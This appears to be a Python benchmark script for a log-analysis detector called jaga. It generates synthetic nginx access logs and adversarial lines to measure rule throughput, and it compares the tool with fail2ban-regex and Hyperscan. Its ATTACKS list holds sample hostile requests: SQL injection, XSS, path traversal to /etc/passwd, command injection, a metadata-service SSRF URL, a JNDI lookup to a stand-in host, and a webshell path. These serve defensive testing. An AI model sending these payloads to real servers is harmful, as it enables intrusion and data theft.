#!/usr/bin/env python3
"""Throughput of log analysis: decode + the whole built-in rule set over a
1 million line nginx access log, on one core, beside fail2ban-regex with
Debian's nginx filters on the same file in the same run.

The log is generated: ordinary requests (pages, assets, search queries with
quotes and words like "select", long cookies in the referer), about 1 % attack
requests (SQL injection, XSS, traversal, command injection, scanners), and
404 bursts.

Then the adversarial classes: lines of up to 8 KB (nginx's default
large_client_header_buffers) built to find a cost per byte that depends on
the text: long percent-encoded non-Latin queries (Hebrew, Cyrillic, CJK,
Devanagari, Thai; Cyrillic encoded twice), words with encoded spaces,
raw non-Latin text, long runs of quotes (plain, percent-, entity- and
IIS-encoded), of one character, of `+`, of `/*`, `${`, `&#x`, `a=1&`, a
long User-Agent, and text drawn at random that never
repeats (letters, percent-encoded Cyrillic, punctuation). Each class is timed on its own file
on one core, by CPU time less the startup (compiling the rules); the goal
is at least 100,000 lines/s for every class.

Each class is run several times (--runs, 3) and reported as the median and
the range: single runs of the same binary spread by up to a fifth here.

Usage: python3 bench/logs_throughput.py [--lines 1000000] [--jaga PATH]
       [--adversarial-lines 20000] [--runs 3] [--only-adversarial]
       [--baseline OTHER_JAGA] [--only "class name" ...] [--reference]
With --baseline, each adversarial class is timed with both binaries in
turn, run after run, and the change printed.

With --reference, each adversarial class is also read by Hyperscan, the
multi-pattern regex engine of Suricata and Snort, given the same patterns
(those of the built-in rules on `url` and on `user_agent`): a yardstick for
what a per-byte cost can be on that text. Hyperscan is timed on its scan
alone, of the first 2,000 lines (it keeps no state from line to line),
after a normalization of our own done beforehand and not timed, and without
the patterns it refuses (it names them): each of these favours it. Needs
the Python modules hyperscan and yaml from PyPI:
  python3 -m venv /tmp/hs && /tmp/hs/bin/pip install hyperscan pyyaml
  /tmp/hs/bin/python bench/logs_throughput.py --only-adversarial --reference
Needs `cargo build --release -p jaga`; installs Debian's fail2ban if missing
(its service is not started).
"""

import argparse
import html
import os
import random
import re
import resource
import shutil
import statistics
import string
import subprocess
import sys
import tempfile
import time
import urllib.parse

PAGES = ["/", "/index.html", "/about", "/products/42", "/static/app.min.js?v=3.1.4", "/static/site.css",
         "/api/users?order=name&limit=10", "/search?q=how+to+select+a+good+car", "/search?q=%22select%22+from+the+menu",
         "/blog/2026/11/what-is-a-union-type", "/shop?category=shoes&sort=price-desc", "/login?next=%2Fdashboard",
         "/images/logo.png", "/docs/v1.2.3/readme.md", "/search?q=o%27reilly+books"]
ATTACKS = ["/users/?id=SELECT+*+FROM+users", "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
           "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/download?file=../../../../etc/passwd",
           "/ping?host=127.0.0.1;cat%20/etc/hosts", "/fetch?url=http://169.254.169.254/latest/meta-data/",
           "/?q=${jndi:ldap://evil/a}", "/uploads/c99.php"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
          "curl/7.88.1"]


def generate(path, lines, seed=7):
    rnd = random.Random(seed)
    with open(path, "w") as f:
        for i in range(lines):
            ip = f"203.0.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
            second = i // 2000
            ts = f"23/Nov/2026:{(second // 3600) % 24:02d}:{(second // 60) % 60:02d}:{second % 60:02d} +0000"
            if rnd.random() < 0.01:
                url, agent, status = rnd.choice(ATTACKS), rnd.choice(AGENTS + ["sqlmap/1.7.2#stable"]), 200
            elif rnd.random() < 0.02:
                url, agent, status = f"/wp-admin/{rnd.randrange(10**6)}.php", "Mozilla/5.0 zgrab/0.x", 404
            else:
                url, agent, status = rnd.choice(PAGES), rnd.choice(AGENTS), 200
            referer = "https://example.com/?session=" + "x" * rnd.randrange(0, 200)
            f.write(f'{ip} - - [{ts}] "GET {url} HTTP/1.1" {status} {rnd.randrange(100, 90000)} "{referer}" "{agent}"\n')


LINE_BYTES = 8 * 1024


def fill(unit, budget):
    """`unit` repeated to at most `budget` bytes of UTF-8."""
    return unit * max(1, budget // len(unit.encode()))


def percent(text):
    return "".join(f"%{b:02X}" for b in text.encode())


def scrambled(alphabet, budget, seed):
    """Characters of `alphabet` drawn at random (seeded) to at most `budget`
    bytes of UTF-8: a text that never repeats itself, so that no shortcut
    for repeated text applies and every byte is read."""
    rnd = random.Random(seed)
    out, size = [], 0
    while True:
        char = rnd.choice(alphabet)
        size += len(char.encode())
        if size > budget:
            return "".join(out)
        out.append(char)


def adversarial_classes():
    """name -> (url, agent), each line at most LINE_BYTES."""
    room = LINE_BYTES - 200
    latin = "hello world "
    classes = {
        "latin words (baseline)": ("/search?q=" + fill("hello+world+", room), AGENTS[0]),
        "percent latin": ("/search?q=" + percent(fill(latin, room // 3)), AGENTS[0]),
        "percent hebrew": ("/search?q=" + percent(fill("שלום עולם ", room // 3)), AGENTS[0]),
        "percent cyrillic": ("/search?q=" + percent(fill("привет мир ", room // 3)), AGENTS[0]),
        "percent cjk": ("/search?q=" + percent(fill("你好世界 ", room // 3)), AGENTS[0]),
        # Every character's UTF-8 starts with E0, the lead of overlong forms.
        "percent devanagari": ("/search?q=" + percent(fill("नमस्ते दुनिया ", room // 3)), AGENTS[0]),
        "percent thai": ("/search?q=" + percent(fill("สวัสดีชาวโลก ", room // 3)), AGENTS[0]),
        # Encoded twice over (`%25D0%25BF`), as tools send whole payloads.
        "percent cyrillic twice": ("/search?q=" + percent(fill("привет мир ", room // 5)).replace("%", "%25"),
                                   AGENTS[0]),
        # Words with encoded spaces: an escape, then plain text, again and again.
        "words and %20": ("/search?q=" + fill("hello%20world%20", room), AGENTS[0]),
        "raw cyrillic": ("/search?q=" + fill("привет+мир+", room // 2), AGENTS[0]),
        "single quotes": ("/search?q=" + fill("'", room), AGENTS[0]),
        "encoded quotes": ("/search?q=" + fill("%22", room), AGENTS[0]),
        "entity quotes": ("/search?q=" + fill("&#39;", room), AGENTS[0]),
        "iis quotes": ("/search?q=" + fill("%u0027", room), AGENTS[0]),
        "pluses": ("/search?q=" + fill("+", room), AGENTS[0]),
        "one character": ("/search?q=" + fill("a", room), AGENTS[0]),
        "parentheses": ("/search?q=" + fill("(", room), AGENTS[0]),
        "dots and slashes": ("/search?q=" + fill("../", room), AGENTS[0]),
        "encoded percent signs": ("/search?q=" + fill("%25", room), AGENTS[0]),
        "comment openers": ("/search?q=" + fill("/*", room), AGENTS[0]),
        "executable comment openers": ("/search?q=" + fill("/*!", room), AGENTS[0]),
        "lookups": ("/search?q=" + fill("${", room), AGENTS[0]),
        "entities": ("/search?q=" + fill("&#x", room), AGENTS[0]),
        "many parameters": ("/search?" + fill("a=1&", room), AGENTS[0]),
        # One `;` lets the query hold named entities (`&lt;`), and each `&`
        # before a letter may then start one.
        "many parameters, one ;": ("/search?;" + fill("a=1&", room - 1), AGENTS[0]),
        "long user agent": ("/", fill("Mozilla/5.0 (X11; Linux) ", room)),
        # Text that does not repeat: the cost of reading every byte.
        "scrambled latin": ("/search?q=" + scrambled("abcdefghijklmnopqrstuvwxyz+", room, 1), AGENTS[0]),
        "scrambled pct cyrillic": ("/search?q=" + percent(scrambled("абвгдежзийклмнопрстуфхцчшщыэюя ", room // 3, 2)),
                                   AGENTS[0]),
        "scrambled punctuation": ("/search?q=" + scrambled(list("'()<>;|&$`{}[]*/.=-#"), room, 3), AGENTS[0]),
    }
    return classes


def varied_classes():
    """name -> function of the line's index giving (url, agent): every line
    different. The classes above repeat one line, and the rules' lazy DFA
    then meets only states it built on the first lines; an attacker who
    varies each line makes it build new ones."""
    room = LINE_BYTES - 200

    def drawn(alphabet, seed):
        # ASCII alphabets: a character a byte, drawn at once (20,000 lines).
        return "".join(random.Random(seed).choices(alphabet, k=room))

    return {
        "varied latin": lambda i: ("/search?q=" + drawn("abcdefghijklmnopqrstuvwxyz+", 1000 + i), AGENTS[0]),
        "varied punctuation": lambda i: ("/search?q=" + drawn("'()<>;|&$`{}[]*/.=-#", 2000 + i), AGENTS[0]),
        # What a fuzzer sends: letters, digits and punctuation at random.
        "varied printable": lambda i: ("/search?q=" + drawn(string.ascii_lowercase + string.digits
                                                            + "'()<>;|&$`{}[]*/.=-#+", 3000 + i), AGENTS[0]),
    }


class HyperscanReference:
    """The built-in rules' patterns of the `url` and `user_agent` fields,
    each field's as one Hyperscan database that reports each pattern once."""

    LINES = 2_000
    RULES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "crates", "jaga-rules", "rules",
                         "web-attacks.yml")

    def __init__(self):
        try:
            import hyperscan
            import yaml
        except ImportError as missing:
            sys.exit(f"--reference needs the Python modules hyperscan and yaml ({missing}): "
                     "python3 -m venv /tmp/hs && /tmp/hs/bin/pip install hyperscan pyyaml, "
                     "then run this with /tmp/hs/bin/python")
        self.hs = hyperscan
        with open(self.RULES) as f:
            rules = yaml.safe_load(f)["rules"]
        self.flags = hyperscan.HS_FLAG_SINGLEMATCH | hyperscan.HS_FLAG_UTF8 | hyperscan.HS_FLAG_ALLOWEMPTY
        self.databases = {field: self.database(rules, field) for field in ("url", "user_agent")}

    def database(self, rules, field):
        patterns = []
        for rule in rules:
            for fields, condition in (rule.get("match") or {}).items():
                if field in fields.split("|") and isinstance(condition, dict) and "regex" in condition:
                    pattern = condition["regex"].encode()
                    try:
                        self.hs.Database().compile(expressions=[pattern], ids=[0], elements=1, flags=[self.flags])
                    except self.hs.error as refused:
                        print(f"hyperscan refuses rule {rule['id']}'s pattern on {field}: {refused}; "
                              "left out of its database")
                        continue
                    patterns.append(pattern)
        database = self.hs.Database()
        database.compile(expressions=patterns, ids=list(range(len(patterns))), elements=len(patterns),
                         flags=[self.flags] * len(patterns))
        print(f"hyperscan: {len(patterns)} patterns on {field}")
        return database

    @staticmethod
    def normalized(text):
        """Near jaga's normalization (which is not timed here): pluses as
        spaces, percent escapes and HTML entities decoded up to three
        times, lowercase, runs of blanks as one space."""
        text = text.replace("+", " ")
        for _ in range(3):
            decoded = html.unescape(urllib.parse.unquote(text))
            if decoded == text:
                break
            text = decoded
        return re.sub(r"\s+", " ", text.lower()).encode("utf-8", "surrogatepass")

    def rate(self, line_of, runs):
        """Median lines/s over `runs` scans of the class's first lines."""
        fields = [(self.normalized(url), self.normalized(agent))
                  for url, agent in (line_of(i) for i in range(self.LINES))]
        rates = []
        for _ in range(runs):
            start = time.process_time()
            for url, agent in fields:
                self.databases["url"].scan(url, match_event_handler=lambda *_: None)
                self.databases["user_agent"].scan(agent, match_event_handler=lambda *_: None)
            rates.append(len(fields) / (time.process_time() - start))
        return statistics.median(rates), rates


def run_adversarial(jaga, lines, pin, work, runs, baseline=None, only=None, reference=None):
    """Each class on its own file; with `baseline`, that binary and `jaga`
    are timed in turn on the same files, run after run, so that both see
    the same drift of a shared machine."""
    if baseline and runs % 2:
        # The binary timed second in a pair reads slower (see below): with
        # an odd count one of them would be second more often.
        runs += 1
    print(f"adversarial classes: {lines} lines each, up to {LINE_BYTES} bytes a line, one core, "
          f"CPU time less startup; median of {runs} runs [lowest-highest]")
    reference_header = f" {'hyperscan':>10} {'range':>15}" if reference else ""
    if baseline:
        print(f"{'class':26} {'bytes/line':>10} {'baseline':>10} {'range':>15} {'lines/s':>10} {'range':>15} "
              f"{'change':>7}{reference_header}")
    else:
        print(f"{'class':26} {'bytes/line':>10} {'lines/s':>12} {'range':>17} {'MB/s':>8}{reference_header}")
    worst = None
    one = os.path.join(work, "adversarial-one.log")
    path = os.path.join(work, "adversarial.log")
    def access_line(url, agent):
        line = f'203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "GET {url} HTTP/1.1" 200 612 "-" "{agent}"\n'
        assert len(line.encode()) <= LINE_BYTES, (url[:40], len(line.encode()))
        return line

    def rate_of(binary):
        # Startup (compiling the rules) timed on one line and taken off.
        _, _, startup = timed(pin + [binary, "logtest", "--summary", "--file", one])
        out, _, cpu = timed(pin + [binary, "logtest", "--summary", "--file", path])
        if out.returncode != 0:
            sys.exit(out.stderr)
        cpu -= startup
        return lines / cpu if cpu > 0 else float("inf")

    def spread(rates):
        return f"[{min(rates) / 1000:,.1f}k-{max(rates) / 1000:,.1f}k]"

    classes = {name: (lambda i, fixed=fixed: fixed) for name, fixed in adversarial_classes().items()}
    classes.update(varied_classes())
    for name, line_of in classes.items():
        if only and name not in only:
            continue
        line = access_line(*line_of(0))
        with open(one, "w") as f:
            f.write(line)
        with open(path, "w") as f:
            for i in range(lines):
                f.write(access_line(*line_of(i)))
        rates, base_rates = [], []
        # Single runs of the same binary on the same file spread by up to
        # a fifth on a shared machine: each class is run several times.
        # The binary run second in a pair read 2 to 6 % slower than the
        # same binary run first: the order changes from run to run.
        for run in range(runs):
            if baseline and run % 2 == 0:
                base_rates.append(rate_of(baseline))
            rates.append(rate_of(jaga))
            if baseline and run % 2 == 1:
                base_rates.append(rate_of(baseline))
        rate = statistics.median(rates)
        size = len(line.encode())
        reference_columns = ""
        if reference:
            reference_rate, reference_rates = reference.rate(line_of, runs)
            reference_columns = f" {reference_rate:10,.0f} {spread(reference_rates):>15}"
        if baseline:
            base = statistics.median(base_rates)
            print(f"{name:26} {size:10} {base:10,.0f} {spread(base_rates):>15} {rate:10,.0f} {spread(rates):>15} "
                  f"{rate / base - 1:+7.0%}{reference_columns}")
        else:
            print(f"{name:26} {size:10} {rate:12,.0f} {spread(rates):>17} {rate * size / 1e6:8.1f}"
                  f"{reference_columns}")
        worst = rate if worst is None else min(worst, rate)
    if worst is not None:
        print(f"slowest class: {worst:,.0f} lines/s, median (goal: 100,000)\n")


def timed(cmd):
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    start = time.time()
    out = subprocess.run(cmd, capture_output=True, text=True)
    wall = time.time() - start
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return out, wall, cpu


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--jaga", default="target/release/jaga")
    parser.add_argument("--adversarial-lines", type=int, default=20_000)
    parser.add_argument("--only-adversarial", action="store_true")
    parser.add_argument("--runs", type=int, default=3,
                        help="runs of each adversarial class (with --baseline, rounded up to an even count)")
    parser.add_argument("--baseline", help="another jaga binary, timed in turn with --jaga on each class")
    parser.add_argument("--only", action="append", help="an adversarial class to run, by name (repeatable)")
    parser.add_argument("--reference", action="store_true",
                        help="also time Hyperscan on each adversarial class, with the built-in rules' patterns")
    args = parser.parse_args()
    for binary in [args.jaga] + ([args.baseline] if args.baseline else []):
        if not os.access(binary, os.X_OK):
            sys.exit(f"{binary} not found: run `cargo build --release -p jaga` first")
    only = set(args.only) if args.only else None
    if only and not only <= set(adversarial_classes()) | set(varied_classes()):
        sys.exit(f"unknown classes: {', '.join(sorted(only - set(adversarial_classes()) - set(varied_classes())))}")
    pin = ["taskset", "-c", "0"] if shutil.which("taskset") else []
    reference = HyperscanReference() if args.reference else None
    if reference and pin:
        # Hyperscan runs in this process: on the core jaga is timed on.
        os.sched_setaffinity(0, {0})
    if args.only_adversarial:
        work = tempfile.mkdtemp(prefix="jaga-bench-logs-")
        try:
            run_adversarial(args.jaga, args.adversarial_lines, pin, work, args.runs, args.baseline, only, reference)
        finally:
            shutil.rmtree(work, ignore_errors=True)
        return
    if not shutil.which("fail2ban-regex"):
        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", "fail2ban"],
                       env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"}, check=True)
    work = tempfile.mkdtemp(prefix="jaga-bench-logs-")
    try:
        log = os.path.join(work, "access.log")
        generate(log, args.lines)
        size_mb = os.path.getsize(log) / 2**20
        print(f"{args.lines} lines, {size_mb:.0f} MiB of nginx combined log\n")
        # taskset: one core for each tool, as the goal is stated per core.
        run_adversarial(args.jaga, args.adversarial_lines, pin, work, args.runs, args.baseline, only, reference)
        out, wall, cpu = timed(pin + [args.jaga, "logtest", "--summary", "--file", log])
        if out.returncode != 0:
            sys.exit(out.stderr)
        print("jaga logtest --summary (decode + all built-in rules):")
        print("  " + "\n  ".join(out.stdout.strip().splitlines()))
        jaga_rate = args.lines / wall
        print(f"  wall {wall:.2f} s, cpu {cpu:.2f} s -> {jaga_rate:,.0f} lines/s\n")
        results = [("jaga (built-in rules, all decoders)", wall, cpu, jaga_rate)]
        for name in ["nginx-botsearch", "nginx-http-auth", "nginx-limit-req"]:
            filt = f"/etc/fail2ban/filter.d/{name}.conf"
            if not os.path.exists(filt):
                continue
            out, wall, cpu = timed(pin + ["fail2ban-regex", "--print-no-missed", "--print-no-ignored", log, filt])
            matched = [l for l in out.stdout.splitlines() if l.startswith("Lines:")]
            rate = args.lines / wall
            results.append((f"fail2ban-regex {name}", wall, cpu, rate))
            print(f"fail2ban-regex {name}: {matched[0] if matched else out.stdout[-200:]}")
            print(f"  wall {wall:.2f} s, cpu {cpu:.2f} s -> {rate:,.0f} lines/s\n")
        print(f"{'tool':40} {'wall s':>8} {'cpu s':>8} {'lines/s':>12} {'jaga is':>10}")
        for name, wall, cpu, rate in results:
            print(f"{name:40} {wall:8.2f} {cpu:8.2f} {rate:12,.0f} {jaga_rate / rate:9.1f}x")
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
